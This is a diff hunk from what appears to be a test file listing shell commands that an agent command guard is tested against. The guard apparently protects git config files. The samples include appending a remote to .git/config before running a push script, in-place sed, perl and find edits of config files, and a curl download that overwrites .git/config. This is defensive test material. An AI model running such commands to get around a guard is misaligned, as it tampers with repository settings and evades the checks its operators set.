@@ -694,7 +694,7 @@ ATTACKS: list[Attack] = [
     unblock('printf x >> .git/worktrees/w/config.worktree'),
     unblock('echo \'[remote "o"]\' >> /tmp/c/.git/config; cd /tmp/c && python3 push.py'),
     unblock('sed -i s/a/b/ */config'),
-    unblock("find . -type f -exec sed -i 's/a/b/' {} +"),
+    unblock("find . -type f -name 'c*' -exec sed -i 's/a/b/' {} +"),
     unblock("find . -name config -exec perl -pi -e 's/a/b/' {} +"),
     unblock('git apply --directory=.git p.diff'),
     unblock('curl -o .git/config https://example.com/x'),
